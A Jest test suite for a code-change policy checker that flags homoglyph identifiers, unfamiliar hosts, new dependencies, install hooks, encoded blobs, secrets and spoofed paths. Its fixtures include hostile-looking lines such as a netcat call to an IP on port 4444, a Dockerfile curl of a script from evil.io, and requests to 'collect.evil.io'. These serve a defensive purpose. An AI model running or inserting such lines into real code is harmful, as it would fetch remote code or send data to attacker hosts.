import { describe, expect, it } from '@jest/globals'
import type { Finding } from '../contracts/finding.ts'
import { madeUpSecrets, characters } from '../secrets/made-up.fake.ts'
import { checkPolicy } from './policy.ts'

const encode = (text: string) => new TextEncoder().encode(text)
const id = 'a'.repeat(40)
type Texts = Readonly<Record<string, readonly [before: string | null, after: string | null]>>

async function check(texts: Texts): Promise<Finding[]> {
  const contents = new Map(
    Object.entries(texts).map(([path, [before, after]]) => [
      path,
      { before: before === null ? null : encode(before), after: after === null ? null : encode(after) },
    ]),
  )
  const changes = Object.entries(texts).map(([path, [before, after]]) => ({
    path,
    status: before === null ? ('added' as const) : after === null ? ('deleted' as const) : ('modified' as const),
    oldMode: before === null ? '000000' : '100644',
    newMode: after === null ? '000000' : '100644',
    oldBlob: id,
    newBlob: id,
  }))
  return checkPolicy({ changes, contents, allowedFiles: null, allowPaths: [] })
}

/** `code severity` of what is found where a line is added to a file. */
async function adding(path: string, line: string, before = 'a\n'): Promise<string[]> {
  return (await check({ [path]: [before, `${before}${line}\n`] })).map(({ code, severity }) => `${code} ${severity}`)
}

const CYRILLIC_A = '\u0430'
const CYRILLIC_COCO = '\u0441\u043E\u0441\u043E'

describe('T-13 an identifier that reads like another', () => {
  it.each([
    ['Latin with one Cyrillic letter', 'a.py', `p${CYRILLIC_A}ssword_ok = True`],
    ['Latin with one Greek look-alike', 'a.ts', 'const \u03BFpen = 1'],
    ['Cyrillic throughout, like a word of the file', 'a.py', `coco = 1\n${CYRILLIC_COCO} = 2`],
    ['a letter in mathematical bold, which Python reads as ASCII', 'a.py', '\u{1D41E}val("1")'],
    ['a click letter that looks like an exclamation mark', 'a.js', 'if (environment\u01C3=ENV_PROD) run()'],
    ['a dotless i', 'a.go', 'admin := 1; adm\u0131n := 2'],
    ['after a template', 'a.ts', `a = \`\${x} y\`; us${CYRILLIC_A}r = 1`],
    ['in the code of a template', 'a.ts', `const a = \`x \${us${CYRILLIC_A}r} y\``],
    ['after a regular expression with quotation marks', 'a.js', `const q = /["'\`]/; us${CYRILLIC_A}r = 1`],
    ['Arabic in Latin', 'a.rs', 'let us\u0627r = 1;'],
  ])('is refused (%s)', async (_, path, line) => {
    expect(await adding(path, line)).toEqual(['mixed-script-identifier block'])
  })

  it.each([
    ['a string', 'a.py', `print("p${CYRILLIC_A}ss")`],
    ['a comment', 'a.ts', `// p${CYRILLIC_A}ss`],
    ['a docstring', 'a.py', `def f():\n    """p${CYRILLIC_A}ss"""`],
    ['the text of a template', 'a.ts', `a = \`\${{ a: 1 }.a} p${CYRILLIC_A}ss\``],
    ['a document', 'a.md', `p${CYRILLIC_A}ss`],
    ['a configuration', 'a.yaml', `k: p${CYRILLIC_A}ss`],
    ['mathematics', 'a.py', '\u0394x = 1'],
  ])('is shown in %s', async (_, path, line) => {
    expect(await adding(path, line)).toEqual(['mixed-script-identifier review'])
  })

  it.each([
    ['Japanese with Latin', 'a.py', 'ユーザーID取得 = 1'],
    ['Chinese with Latin', 'a.ts', 'const 用户Name = 1'],
    ['Korean with Latin', 'a.java', 'int 값max = 1;'],
    ['Cyrillic alone', 'a.py', 'имя = "Ада"'],
    ['Latin with its accents', 'a.py', 'größe_ñandú = 1'],
    ['two words side by side', 'a.py', 'print("Привет World")'],
    ['a micro sign', 'a.py', 'µs = 1'],
    ['a sign by itself in a string', 'a.py', 'print("ℹ 5 º")'],
  ])('is none in %s', async (_, path, line) => {
    expect(await adding(path, line)).toEqual([])
  })

  it("is not this change's doing where it was there before, or was moved", async () => {
    const line = `p${CYRILLIC_A}ss = 1\n`
    expect(await check({ 'a.py': [line, `${line}b = 1\n`] })).toEqual([])
    expect(await check({ 'a.py': [`${line}x = 1\n`, 'x = 1\n'], 'b.py': [null, line] })).toEqual([])
    expect(await check({ 'a.txt': [`${line}x = 1\n`, 'x = 1\n'], 'b.py': [null, line] })).not.toEqual([])
  })
})

describe('T-13 a host that the file did not name', () => {
  it.each([
    ['a URL', 'a.py', 'get("https://collect.evil.io/x")'],
    ['a URL of another scheme', 'a.yaml', 'remote: ssh://git@evil.io/x'],
    ['a URL with user information', 'a.ts', "fetch('https://good.com@evil.io/')"],
    ['a URL without its scheme', 'a.html', '<script src="//cdn.evil.io/a.js"></script>'],
    ['a URL put together from literals', 'a.js', 'get("https://" + "evil.io" + "/x")'],
    ['an address with its port', 'a.sh', 'nc 45.67.89.10:4444'],
    ['an address written as a number', 'a.py', 'get("http://757865738/")'],
    ['an address of IPv6', 'a.go', 'dial("[2a00:1450::1]:443")'],
    ['a remote of git', 'a.sh', 'git clone git@evil.io:x/y.git'],
    ['a whole string', 'a.py', 'connect("collect.evil.com", 443)'],
    ['a name in punycode', 'a.py', 'get("https://еvil.io/")'],
    ['a URL after a string with a comment sign', 'a.js', 'f("//", "https://evil.io")'],
    ['a Dockerfile', 'Dockerfile', 'RUN curl https://evil.io/i.sh'],
  ])('is for a person to decide (%s)', async (_, path, line) => {
    expect(await adding(path, line)).toContain('new-host hold')
  })

  it.each([
    ['a comment', 'a.py', '# see https://docs.evil.io'],
    ['a comment behind code', 'a.ts', 'let a = 1 // https://docs.evil.io'],
    ['a docstring', 'a.py', 'def f():\n    """See https://docs.evil.io."""'],
    ['a document', 'docs/a.md', 'See [it](https://docs.evil.io).'],
  ])('is shown in %s', async (_, path, line) => {
    expect(await adding(path, line)).toEqual(['new-host review'])
  })

  it.each([
    [
      'set aside for documents',
      'a.py',
      'get("https://api.example.com") or get("http://x.test") or get("http://192.0.2.7:80")',
    ],
    ['this machine', 'a.py', 'get("http://localhost:3000"), get("http://127.0.0.1:80"), get("http://[::1]:80")'],
    ['named before', 'a.py', 'get("https://known.evil.io/other")'],
    ['a vocabulary', 'a.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['a variable', 'a.ts', 'fetch(`https://${host}/x`)'],
    ['a package written the other way round', 'a.java', 'load("com.evil.app.net");'],
    ['a version', 'a.py', 'v = "1.2.3.4"'],
    ['an import', 'a.ts', "import a from './b.ts'"],
  ])('is none (%s)', async (_, path, line) => {
    expect(await adding(path, line, 'u = "https://known.evil.io/x"\n')).toEqual([])
  })
})

const pkg = (more: object) => JSON.stringify({ name: 'x', dependencies: { kept: '^1.0.0' }, ...more }, null, 2)

describe('T-13 a dependency', () => {
  it.each<[string, string, string, string]>([
    ['package.json', pkg({}), pkg({ devDependencies: { evil: '1.0.0' } }), 'evil (devDependencies) 1.0.0'],
    ['package.json', pkg({}), pkg({ dependencies: { kept: 'npm:evil@1' } }), 'kept npm:evil@1'],
    ['web/package.json', pkg({}), pkg({ dependencies: { kept: 'evil/repo' } }), 'kept evil/repo'],
    ['package.json', pkg({}), pkg({ overrides: { deep: '2' } }), 'deep (overrides) 2'],
    ['pyproject.toml', '[project]\nname="x"\n', '[project]\nname="x"\ndependencies=["evil>=1"]\n', 'evil >=1'],
    ['pyproject.toml', '', '[dependency-groups]\ntest=["evil"]\n', 'evil'],
    ['pyproject.toml', '', '[tool.poetry.group.dev.dependencies]\nEvil_One="^1"\n', 'evil-one ^1'],
    ['pyproject.toml', '', '[tool.uv.sources]\ntorch={url="x"}\n', 'torch (origin)'],
    ['requirements.txt', 'kept\n', 'kept\nevil==1 # why\n', 'evil ==1'],
    ['requirements/dev.in', 'kept\n', 'kept\n--extra-index-url x\n', '--extra-index-url x'],
    ['setup.cfg', '[options]\n', '[options]\ninstall_requires =\n    kept\n    evil>=2\n', 'kept'],
    ['setup.py', 'setup()\n', 'setup(install_requires=[\n  "evil>=1",\n])\n', 'evil >=1'],
    ['Pipfile', '[packages]\n', '[packages]\nevil = "*"\n', 'evil *'],
    ['go.mod', 'module x\n', 'module x\nrequire (\n\tevil.io/m v1.2.3\n)\n', 'evil.io/m v1.2.3'],
    ['go.mod', 'module x\n', 'module x\nreplace a/b => evil.io/m v1\n', 'a/b => evil.io/m v1 (replace)'],
    ['pom.xml', '<project/>', '<project><dependencies><dependency><groupId>evil</groupId><artifactId>m</artifactId><version>1</version></dependency></dependencies></project>', 'evil:m 1'],
    ['build.gradle.kts', '', 'dependencies { implementation("evil:m:1.0") }\n', 'evil:m 1.0'],
    ['build.gradle', '', "plugins { id 'evil.plugin' version '1' }\n", 'evil.plugin (plugin) 1'],
    ['gradle/libs.versions.toml', '', '[libraries]\nm = "evil:m:1"\n', 'evil:m 1'],
  ])('that is new in %s is for a person to decide (%#)', async (path, before, after, said) => {
    const findings = (await check({ [path]: [before, after] })).filter(({ code }) => code === 'new-dependency')
    expect(findings[0]).toMatchObject({ severity: 'hold', path })
    expect(findings[0]?.message).toContain(said)
  }) // prettier-ignore

  it.each<[string, string, string]>([
    ['package.json', pkg({}), pkg({ dependencies: { kept: '^2.0.0' } })],
    ['package.json', pkg({}), pkg({ dependencies: {}, devDependencies: { kept: '^2.0.0' } })],
    ['requirements.txt', 'kept==1\n', 'kept==2\n'],
    ['pyproject.toml', '[project]\ndependencies=["kept>=1"]\n', '[project]\ndependencies=["Kept>=2"]\n'],
    ['go.mod', 'require a/b v1.0.0\n', 'require a/b v1.1.0 // indirect\n'],
  ])('that gets another version in %s is shown (%#)', async (path, before, after) => {
    expect(await check({ [path]: [before, after] })).toMatchObject([{ code: 'dependency-version', severity: 'review' }])
  })

  it('that goes, or stays while the file changes, is nothing', async () => {
    expect(await check({ 'package.json': [pkg({}), pkg({ dependencies: {} })] })).toEqual([])
    expect(await check({ 'package.json': [pkg({}), pkg({ description: 'y' })] })).toEqual([])
    expect(await check({ 'requirements.txt': ['a==1\n', '# why\na==1\n'] })).toEqual([])
  })

  it('cannot be known where the file cannot be read any more', async () => {
    expect(await check({ 'package.json': [pkg({}), '{'] })).toMatchObject([
      { code: 'new-dependency', severity: 'hold' },
    ])
  })
})

describe('T-13 what runs when it is installed', () => {
  it.each<[string, string, string]>([
    ['package.json', pkg({}), pkg({ scripts: { postinstall: 'node x' } })],
    ['package.json', pkg({ scripts: { prepare: 'husky' } }), pkg({ scripts: { prepare: 'husky && node x' } })],
    ['package.json', pkg({}), pkg({ trustedDependencies: ['kept'] })],
    ['setup.py', 'setup()\n', 'setup(cmdclass={"install": Evil})\n'],
    ['setup.py', 'setup()\n', 'import subprocess\nsetup()\n'],
    ['pyproject.toml', '[build-system]\nbuild-backend="setuptools.build_meta"\n', '[build-system]\nbuild-backend="own"\nbackend-path=["."]\n'],
    ['pyproject.toml', '[build-system]\nbuild-backend="setuptools.build_meta"\n', '[build-system]\nbuild-backend="hatchling.build"\n'],
    ['pyproject.toml', '', '[build-system]\nbuild-backend="own"\n'],
    ['pyproject.toml', '', '[tool.hatch.build.hooks.custom]\npath="h.py"\n'],
    ['setup.cfg', '[options]\n', '[options]\ncmdclass =\n  install = x.Y\n'],
  ])('may not be added or changed in %s (%#)', async (path, before, after) => {
    expect(await check({ [path]: [before, after] })).toContainEqual(
      expect.objectContaining({ code: 'install-script', severity: 'block', path }),
    )
  }) // prettier-ignore

  it.each(['binding.gyp', 'sitecustomize.py', 'src/x.pth'])('%s may not be new', async (path) => {
    expect(await check({ [path]: [null, 'x\n'] })).toMatchObject([{ code: 'install-script', severity: 'block' }])
  })

  it.each<[string, string, string]>([
    ['package.json', pkg({}), pkg({ scripts: { test: 'jest', pretest: 'tsc' } })],
    ['package.json', pkg({ scripts: { prepare: 'husky' } }), pkg({ scripts: { prepare: 'husky', test: 'jest' } })],
    ['pyproject.toml', '[project]\nrequires-python=">=3.8"\n', '[project]\nrequires-python=">=3.10"\n'],
    ['pyproject.toml', '', '[build-system]\nbuild-backend="hatchling.build"\n'],
    ['setup.py', 'setup(python_requires=">=3.8")\n', 'setup(python_requires=">=3.10")\n'],
  ])('leaves other changes of %s alone (%#)', async (path, before, after) => {
    expect(await check({ [path]: [before, after] })).toEqual([])
  })
})

describe('T-13 text that nobody can read', () => {
  const some = characters(5)
  const blob = some(400)
  it.each([
    ['base64', 'a.py', `x = "${blob}"`],
    ['hex', 'a.py', `x = "${some(300, '0123456789abcdef')}"`],
    ['base64 in parts', 'a.js', `x = "${blob.slice(0, 90)}" +\n"${blob.slice(90, 180)}" +\n"${blob.slice(180)}"`],
    ['base64 in two strings', 'a.js', `x = "${blob.slice(0, 100)}" + "${blob.slice(100, 190)}"`],
    ['base64 in lines', 'a.txt', (blob.match(/.{64}/g) ?? []).join('\n')],
    ['a program in a data URL', 'a.html', `<script src="data:text/javascript;base64,${blob}"></script>`],
    ['a source map in the file', 'a.js', `//# sourceMappingURL=data:application/json;base64,${blob}`],
  ])('is for a person to decide: %s', async (_, path, line) => {
    expect(await adding(path, line)).toEqual(['encoded-blob hold'])
  })

  it.each([
    ['a picture', 'a.css', `a { background: url(data:image/png;base64,iVBORw0KGgo${blob}) }`, ['encoded-blob review']],
    ['words', 'a.py', `x = "${'some_long_identifier_of_words_'.repeat(9)}"`, []],
    ['a path', 'a.py', `x = "/${'usr/local/share/python/modules/'.repeat(9)}"`, []],
    ['the hash of a file', 'a.html', `<script integrity="sha512-${some(86)}=="></script>`, []],
    ['a ruler', 'a.py', `# ${'='.repeat(200)}`, []],
  ])('is not %s', async (_, path, line, codes) => {
    expect(await adding(path, line)).toEqual(codes)
  })

  it('is a line of thousands of characters, but not in a lock file', async () => {
    expect(await adding('a.js', 'var a=1;'.repeat(300))).toEqual(['minified-line hold'])
    expect(await adding('package-lock.json', 'var a=1;'.repeat(300))).toEqual(['protected-path block'])
  })
})

describe('T-13 a secret', () => {
  const { 'github-token': token = '', 'private-key': key = '', 'json-web-token': jwt = '' } = madeUpSecrets(21)

  it.each([
    ['in code', 'a.py', `t = "${token}"`],
    ['in a document', 'README.md', `Use ${token}.`],
    ['in two strings', 'a.ts', `const t = '${token.slice(0, 12)}' + '${token.slice(12)}'`],
    ['encoded', 'a.yaml', `t: ${btoa(token)}`],
    ['a private key', 'a.pem', key],
  ])('is refused %s', async (_, path, line) => {
    const findings = await check({ [path]: ['a\n', `a\n${line}\n`] })
    expect(findings).toContainEqual(expect.objectContaining({ code: 'secret', severity: 'block', line: 2 }))
    for (const part of [token.slice(4, 20), key.slice(60, 90)]) expect(JSON.stringify(findings)).not.toContain(part)
  })

  it('that is only likely is for a person to decide', async () => {
    expect(await adding('a.py', `t = "${jwt}"`)).toContain('possible-secret hold')
    expect(await adding('a.py', `password = "${characters(9)(20)}"`)).toEqual(['possible-secret hold'])
  })

  it("that was there before is not this change's doing, wherever its line went", async () => {
    expect(await check({ 'a.py': [`t = "${token}"\n`, `if x:\n    token = "${token}"\n`] })).toEqual([])
  })

  it('is found in the name of a new file', async () => {
    expect(await check({ [`${token}.txt`]: [null, 'x\n'] })).toMatchObject([{ code: 'secret', severity: 'block' }])
  })

  it('half of which was there is found when the other half comes', async () => {
    const [half, other] = [token.slice(0, 20), token.slice(20)]
    expect(await check({ 'a.py': [`t = ("${half}"\n)\n`, `t = ("${half}"\n  "${other}"\n)\n`] })).toMatchObject([
      { code: 'secret' },
    ])
  })
})

describe('T-01, T-03 a path', () => {
  const bounds = { contents: new Map(), allowedFiles: null, allowPaths: [] }
  const change = (path: string, status: 'added' | 'modified' | 'deleted' = 'added') => ({
    path, status, oldMode: status === 'added' ? '000000' : '100644', newMode: status === 'deleted' ? '000000' : '100644', oldBlob: null, newBlob: null,
  }) // prettier-ignore

  it.each([
    ['in other letters', '.GitHub/workflows/x.yml', 'protected-path'],
    ['with an invisible character', '.github\u200b/workflows/x.yml', 'path-invisible'],
    ['with one that HFS+ drops', '.git\u200dhub/workflows/x.yml', 'path-invisible'],
    ['in fullwidth letters', '\uFF0Egithub/workflows/x.yml', 'protected-path'],
    ['with a long s', '.github/work\u017Flows/x.yml', 'protected-path'],
    ['by its short name on Windows', 'GITHUB~1/workflows/x.yml', 'protected-path'],
    ['by its hashed short name', 'GI7EBA~1/workflows/x.yml', 'path-git'],
    ['with a dot that Windows drops', '.github./workflows/x.yml', 'path-trailing'],
    ['with a stream of NTFS', '.github::$INDEX_ALLOCATION/x.yml', 'path-backslash'],
    ['with a Cyrillic letter', '.g\u0456thub/workflows/x.yml', 'path-mixed-script'],
  ])('into the workflows %s is refused', async (_, path, code) => {
    expect(await checkPolicy({ ...bounds, changes: [change(path)] })).toMatchObject([{ code, severity: 'block' }])
  })

  it.each([
    ['another case', 'README.md', 'Readme.md'],
    ['another composition', 'caf\u00E9.md', 'CAF\u00C9.md'],
    ['letters of another script', 'coco/a.py', '\u0441\u043E\u0441\u043E/a.py'],
  ])('that is one with a path of the base in %s is refused', async (_, known, path) => {
    const paths = new Set([known, 'other.md'])
    expect(await checkPolicy({ ...bounds, paths, changes: [change(path)] })).toMatchObject([{ code: 'path-collision' }])
    expect(await checkPolicy({ ...bounds, paths, changes: [change(path), change(known, 'deleted')] })).toEqual([])
    expect(await checkPolicy({ ...bounds, paths, changes: [change('new.md')] })).toEqual([])
  })

  it("of a plan item may be its own or a test's", async () => {
    const allowed = { ...bounds, allowedFiles: ['src/a.py'] }
    const changes = ['src/a.py', 'tests/test_a.py', 'src/a.test.ts', '__tests__/b.js'].map((path) => change(path))
    expect(await checkPolicy({ ...allowed, changes })).toEqual([])
    expect(await checkPolicy({ ...allowed, changes: [change('src/b.py')] })).toMatchObject([{ code: 'not-planned' }])
    expect(await checkPolicy({ ...allowed, changes: [change('conftest.py')] })).toMatchObject([{ code: 'not-planned' }])
  })
})

describe('a change that nobody can read as a whole', () => {
  it('is for a person to decide', async () => {
    const many: Texts = Object.fromEntries(Array.from({ length: 101 }, (_, at) => [`f${at}.txt`, ['a\n', 'b\n']]))
    expect(await check(many)).toMatchObject([{ code: 'large-change', severity: 'hold' }])
    expect(await check({ 'a.txt': ['a\n', 'some words\n'.repeat(100_000)] })).toMatchObject([{ code: 'large-change' }])
  })
})
